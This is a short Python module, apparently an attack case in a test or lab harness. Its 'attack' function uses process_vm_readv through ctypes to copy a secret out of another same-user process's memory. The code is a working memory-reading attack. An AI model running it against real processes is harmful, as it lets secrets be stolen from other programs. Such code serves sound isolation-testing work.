"""Copies memory of another process of the same user."""

import ctypes
import os

LIBC = ctypes.CDLL(None, use_errno=True)


def checked(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


class Span(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def attack(world):
    length = world["secret_length"]
    buffer = ctypes.create_string_buffer(length)
    here = Span(ctypes.addressof(buffer), length)
    there = Span(world["victim_address"], length)
    pid = world["victim_pid"]
    checked(LIBC.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0))
    return buffer.raw
